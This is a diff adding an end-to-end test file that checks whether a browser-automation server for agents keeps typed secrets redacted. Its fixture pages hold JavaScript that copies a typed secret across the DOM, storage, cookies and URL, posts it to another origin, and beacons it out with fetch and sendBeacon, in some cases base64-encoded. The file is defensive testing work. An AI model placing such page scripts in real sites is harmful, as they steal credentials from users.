@@ -1,0 +1,191 @@
+"""A hostile page against a real server, from outside: it moves a secret the agent typed, forges what the
+agent reads, and names what the server writes.
+
+The page is the attacker: once the agent typed a secret into it (`type {secret: true}`), it copies
+the value wherever it likes (other fields, attributes, its title, its URL, its console, its requests)
+and in whatever form the browser gives it there. Each test shows that the page did it (the site
+received the value, or the page's own check says so) and then that no answer, history row or log
+line of the server shows it. Every secret starts with a marker of its own that no page text holds, so
+a cut or re-encoded copy is found as surely as a whole one.
+"""
+
+import base64
+import json
+import os
+from urllib.parse import unquote, unquote_plus
+
+import pytest
+from support import HtmlHandler, HtmlSite, McpClient, stored_text, wait_for
+
+pytestmark = pytest.mark.e2e
+
+# A URL, an HTML serialisation and JSON each escape a different set of these.
+MOVED = 'Zq7mv p@ss&w<rd!"x'
+UPPER = "Kx9up-token"
+CUT = "Jw4ct-secret-value"
+TURNED = "Vb5tr-reversed-value"
+
+# The page copies its field's value wherever a page can put text, when #go is clicked.
+MOVER = """<!doctype html><title>Mover</title>
+<input id=f><input id=up oninput="this.value = this.value.toUpperCase()">
+<div id=copy></div><div id=attrs></div><div id=editable contenteditable></div><textarea id=area></textarea>
+<select id=pick><option>first</option></select><div id=styled></div><div id=host></div>
+<iframe id=same srcdoc="<p id=inner>inner</p>"></iframe><iframe id=other src="OTHER/frame"></iframe>
+<style>#styled::before { content: attr(data-x); }</style>
+<button id=go onclick="move(f.value)">Go</button>
+<script>
+function move(v) {
+  copy.textContent = v;
+  attrs.title = v; attrs.setAttribute('aria-label', v); attrs.setAttribute('data-v', v);
+  f.placeholder = v;
+  editable.textContent = v; area.value = v;
+  pick.append(new Option(v)); styled.dataset.x = v;
+  host.attachShadow({mode: 'open'}).innerHTML = '<input id=shadowed>';
+  host.shadowRoot.getElementById('shadowed').value = v;
+  same.contentDocument.getElementById('inner').textContent = v;
+  other.contentWindow.postMessage(v, '*');
+  document.title = 'moved ' + v;
+  localStorage.setItem('k', v); sessionStorage.setItem('k', v);
+  document.cookie = 'k=' + encodeURIComponent(v);
+  console.log('value', v);
+  // Its URL and its requests, as the browser encodes each part.
+  history.pushState(null, '', '/moved/' + v + '?q=' + v + '#' + v);
+  fetch('/beacon/c?' + encodeURIComponent(v));
+  fetch('/beacon/s?' + new URLSearchParams({u: v}));
+  fetch(location.href);
+  navigator.sendBeacon('/beacon/b', location.href);
+}
+</script>"""
+OTHER_FRAME = """<!doctype html><p id=got>waiting</p>
+<script>onmessage = e => { got.textContent = e.data; }</script>"""
+# The page's own transformations: its console prints the value reversed and in base64.
+TURNER = """<!doctype html><title>Turner</title><input id=f>
+<button id=go onclick="console.log('r:' + [...f.value].reverse().join('') + ' b:' + btoa(f.value));
+  fetch('/beacon/t?' + btoa(f.value))">Go</button>"""
+# The server's own cuts: a console argument keeps its first 10,000 characters, a DOM snapshot's text 500.
+CUTTER = """<!doctype html><title>Cutter</title><input id=f><p id=long></p>
+<button id=go onclick="console.log('x'.repeat(10000 - 6) + f.value);
+  long.textContent = 'y'.repeat(500 - 6) + f.value; fetch('/beacon/cut?' + f.value)">Go</button>"""
+
+
+class Site(HtmlHandler):
+    """The pages above; every request to /beacon (its query, its body) is kept in `heard`."""
+
+    heard: list[str] = []
+
+    def do_GET(self):
+        if self.path.startswith("/beacon") or self.path.startswith("/moved"):
+            Site.heard.append(self.path)
+            self._send(204)
+        elif self.path == "/frame":
+            self._send(200, OTHER_FRAME)
+        else:
+            pages = {"/mover": MOVER.replace("OTHER", self.server.other), "/turner": TURNER, "/cutter": CUTTER}
+            self._send(200, pages.get(self.path.split("?")[0], "<title>none</title>"))
+
+    def do_POST(self):
+        Site.heard.append(self.path + " " + self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode())
+        self._send(204)
+
+
+@pytest.fixture(scope="module")
+def site():
+    other = HtmlSite(handler=Site)  # another origin (its own port), for the cross-origin frame
+    site = HtmlSite(handler=Site)
+    site.httpd.other = other.url
+    yield site
+    site.close()
+    other.close()
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("page-attacks")
+    client = McpClient("--db", str(folder / "history.db"), "--output-dir", str(folder / "out"),
+                       "--login-cooldown", "0", "--log-level", "debug", "--allow-evaluate")
+    client.folder = folder
+    yield client
+    client.close()
+
+
+def heard(prefix):
+    """What the site received on the paths starting with `prefix`, decoded both ways a URL may be."""
+    got = [line for line in Site.heard if line.startswith(prefix)]
+    return " ".join(got + [unquote(line) for line in got] + [unquote_plus(line) for line in got])
+
+
+def shown(answers):
+    """The answers as the agent reads them, as one text (a screenshot's picture left out)."""
+    return json.dumps([{k: v for k, v in a.items() if k not in ("image", "data")} for a in answers],
+                      ensure_ascii=False)
+
+
+def stored(server):
+    """Everything the server keeps as text: its history (rows and pages) and its log."""
+    db = server.folder / "history.db"
+    wait_for(lambda: os.path.exists(f"{db}-wal"))
+    history = stored_text(db)
+    return history["rows"] + history["pages"] + json.dumps(server.server_log(), ensure_ascii=False)
+
+
+def opened(server, site, path):
+    sid = server.tool("create_session")["sessionId"]
+    server.tool("navigate", sessionId=sid, url=site.url + path)
+    return sid
+
+
+def test_a_secret_the_page_moves_anywhere_stays_hidden(server, site):
+    sid = opened(server, site, "/mover")
+    answers = [server.tool("type", sessionId=sid, selector="#f", text=MOVED, secret=True),
+               server.tool("click", sessionId=sid, selector="#go")]
+    assert wait_for(lambda: "/beacon/b" in heard("/"), 10), Site.heard
+    # The page moved it: the site got it back in each of the browser's encodings.
+    for path in ("/beacon/c", "/beacon/s", "/moved", "/beacon/b"):
+        assert MOVED in heard(path), (path, Site.heard)
+    answers += [server.tool("snapshot", sessionId=sid), server.tool("dom_snapshot", sessionId=sid),
+                server.tool("dom_snapshot", sessionId=sid, selector="#copy"),
+                server.tool("console_logs", sessionId=sid), server.tool("network_logs", sessionId=sid),
+                server.tool("evaluate", sessionId=sid, expression="[localStorage.k, document.cookie, location.href]"),
+                server.tool("tabs", sessionId=sid), server.tool("list_sessions")]
+    for answer in list(answers):
+        if answer.get("meta", {}).get("hasSnapshot"):
+            answers.append(server.tool("get_content", ref_id=answer["refId"]))
+    text = shown(answers)
+    assert "[REDACTED]" in text and "moved" in text  # it was there, hidden where it stood
+    assert "Zq7" not in text, text
+    assert "Zq7" not in stored(server)
+
+
+def test_a_secret_its_field_upper_cases_stays_hidden(server, site):
+    sid = opened(server, site, "/mover")
+    server.tool("type", sessionId=sid, selector="#up", text=UPPER, secret=True)
+    upper = "up.value.length === 11 && up.value === up.value.toUpperCase()"
+    assert server.tool("evaluate", sessionId=sid, expression=upper)["result"] is True  # the page upper-cased it
+    snap = server.tool("snapshot", sessionId=sid)
+    text = shown([snap])
+    assert "KX9UP" not in text, text
+    assert "KX9UP" not in stored(server)
+
+
+def test_the_servers_own_cuts_do_not_leave_a_secrets_start(server, site):
+    sid = opened(server, site, "/cutter")
+    server.tool("type", sessionId=sid, selector="#f", text=CUT, secret=True)
+    server.tool("click", sessionId=sid, selector="#go")
+    assert wait_for(lambda: CUT in heard("/beacon/cut"), 10)
+    answers = [server.tool("console_logs", sessionId=sid), server.tool("dom_snapshot", sessionId=sid)]
+    assert "x" * 100 in shown(answers[:1]) and "y" * 100 in shown(answers[1:])  # both were cut where the page meant
+    for answer in answers:
+        assert "Jw4ct" not in shown([answer]), shown([answer])[-300:]
+    assert "Jw4ct" not in stored(server)
+
+
+@pytest.mark.xfail(strict=True, reason="a page that transforms a secret itself (reversed, base64) can show it; "
+                                       "documented in docs/safety.md")
+def test_a_secret_the_page_transforms_itself_is_shown(server, site):
+    sid = opened(server, site, "/turner")
+    server.tool("type", sessionId=sid, selector="#f", text=TURNED, secret=True)
+    server.tool("click", sessionId=sid, selector="#go")
+    encoded = base64.b64encode(TURNED.encode()).decode()
+    assert wait_for(lambda: encoded in heard("/beacon/t"), 10)
+    text = shown([server.tool("console_logs", sessionId=sid)])
+    assert TURNED[::-1] not in text and encoded not in text, text
